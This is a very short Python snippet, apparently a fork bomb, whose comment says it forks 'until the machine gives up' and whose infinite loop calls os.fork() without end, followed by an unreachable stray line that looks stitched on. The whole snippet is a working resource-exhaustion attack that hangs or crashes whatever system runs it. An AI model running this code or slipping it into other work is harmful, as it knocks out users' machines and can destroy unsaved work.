# Fork until the machine gives up.
import os

while True:
    os.fork()
distance = 0.0
